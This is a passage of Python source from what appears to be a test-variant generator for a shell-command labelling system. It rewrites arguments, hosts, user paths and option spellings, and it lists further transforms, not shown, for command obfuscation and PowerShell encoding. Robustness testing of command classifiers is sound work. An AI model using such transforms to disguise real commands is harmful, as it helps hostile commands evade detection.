            return _replace_token(text, tok, raw[: len(raw) - len(name)] + name[:cut] + insert + name[cut:])
    return None


_GETOPT_CLUSTER = frozenset({"ls", "du", "df", "rm", "cp", "ps", "uname", "netstat", "ss", "lsof", "free", "id"})
_USERS = ("alice", "bob", "admin", "dev", "jsmith", "ops", "svc", "backup", "maria", "chen")
_BARE_DOMAIN = re.compile(
    r"(?<![\w./@:-])([a-z0-9-]+(?:\.[a-z0-9-]+)*\.(?:com|org|net|io|dev|edu|gov|co|info))(?![\w.-])", re.I
)


def _args(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    """Other argument values and spellings that every label tolerates: counts, host names, user folders,
    and (for getopt tools) clustered short flags in another order or split apart."""
    toks, bi = _command_tokens(text)
    if not toks:
        return None
    b = _basename(toks[bi].group(0))
    head, rest = text[: toks[bi].end()], text[toks[bi].end() :]
    out = re.sub(
        r"(\s-[A-Za-z]\s+|\s--[a-z-]{2,20}[= ])(\d{1,3})(?=\s|$)",
        lambda m: m.group(1) + str(rng.randint(1, 2 * int(m.group(2)) + 5)),
        rest,
    )
    out = _BARE_DOMAIN.sub(lambda m: m.group(0) if _is_placeholder(m.group(0)) else _host(rng), out)
    out = re.sub(
        r"(/home/|/Users/|\\Users\\)(?!Public\b)([A-Za-z][\w.-]{1,30})",
        lambda m: m.group(1) + rng.choice([u for u in _USERS if u != m.group(2)]),
        out,
    )
    if ctx.platform == "posix" and b in _GETOPT_CLUSTER:

        def cluster(m: re.Match[str]) -> str:
            letters = list(m.group(1))
            if rng.random() < 0.5:
                return " ".join("-" + c for c in letters)
            shuffled = rng.sample(letters, len(letters))
            return "-" + "".join(shuffled if shuffled != letters else letters[::-1])

        out = re.sub(r"(?<=\s)-([A-Za-z]{2,4})(?=\s|$)", cluster, out)
    new = head + out
    return new if new != text else None


# fmt: off
#: GNU long spellings of short options, per program (POSIX): ``ls -a`` is ``ls --all``.
_LONG_OPTIONS: dict[str, dict[str, str]] = {
    "ls": {"a": "--all", "l": "--format=long", "h": "--human-readable", "r": "--reverse", "R": "--recursive",
           "A": "--almost-all"},
    "grep": {"r": "--recursive", "i": "--ignore-case", "n": "--line-number", "v": "--invert-match",
             "l": "--files-with-matches", "E": "--extended-regexp", "c": "--count"},
    "du": {"s": "--summarize", "h": "--human-readable", "a": "--all", "c": "--total"},
    "df": {"h": "--human-readable", "T": "--print-type", "i": "--inodes"},
    "cp": {"r": "--recursive", "v": "--verbose", "a": "--archive", "f": "--force", "p": "--preserve"},
    "mv": {"v": "--verbose", "f": "--force", "n": "--no-clobber"},
    "rm": {"r": "--recursive", "f": "--force", "v": "--verbose"},
    "docker": {"a": "--all", "q": "--quiet"},
    "curl": {"s": "--silent", "L": "--location", "o": "--output", "O": "--remote-name", "k": "--insecure",
             "f": "--fail"},
    "wget": {"q": "--quiet", "O": "--output-document", "c": "--continue"},
    "tar": {"c": "--create", "z": "--gzip", "x": "--extract", "f": "--file", "v": "--verbose", "j": "--bzip2"},
    "chmod": {"R": "--recursive", "v": "--verbose"},
    "git": {"v": "--verbose", "q": "--quiet"},
}
# fmt: on


def _long_options(text: str, ctx: _Ctx, rng: random.Random) -> str | None:
    """Short options as their GNU long spelling, or back (``-s`` <-> ``--silent``), for known programs."""
    if ctx.platform != "posix":
        return None
    toks, bi = _command_tokens(text)
    if not toks:
        return None
    table = _LONG_OPTIONS.get(_basename(toks[bi].group(0)))
    if not table:
        return None
    back = {v: k for k, v in table.items()}
    out, shift, changed = text, 0, False
    for tok in toks[bi + 1 :]:
        t = tok.group(0)
        new = None
        if re.fullmatch(r"-[A-Za-z]+", t) and all(c in table for c in t[1:]) and rng.random() < 0.7:
            new = " ".join(table[c] for c in t[1:])
        elif t in back and rng.random() < 0.7:
            new = "-" + back[t]
        if new:
            s, e = tok.start() + shift, tok.end() + shift
            out = out[:s] + new + out[e:]
            shift += len(new) - len(t)
            changed = True
    return out if changed else None


#: the most telling transformation names a variant's kind in reports (a swapped binary says more than a path).
_PRIORITY = (
    "binary_swap",
    "ps_encoding",
    "cmd_obfuscation",
    "posix_obfuscation",
    "values",
    "ps_abbrev",
    "long_options",
    "flag_prefix",
    "args",
    "path_form",
    "case",
)

TRANSFORMS: dict[str, Callable[[str, _Ctx, random.Random], str | None]] = {
    "args": _args,
    "long_options": _long_options,
    "binary_swap": _binary_swap,
    "flag_prefix": _flag_prefix,
    "case": _case,
    "cmd_obfuscation": _cmd_obfuscation,
    "path_form": _path_form,
    "values": _values,
    "ps_abbrev": _ps_abbrev,
    "ps_encoding": _ps_encoding,
    "posix_obfuscation": _posix_obfuscation,
}
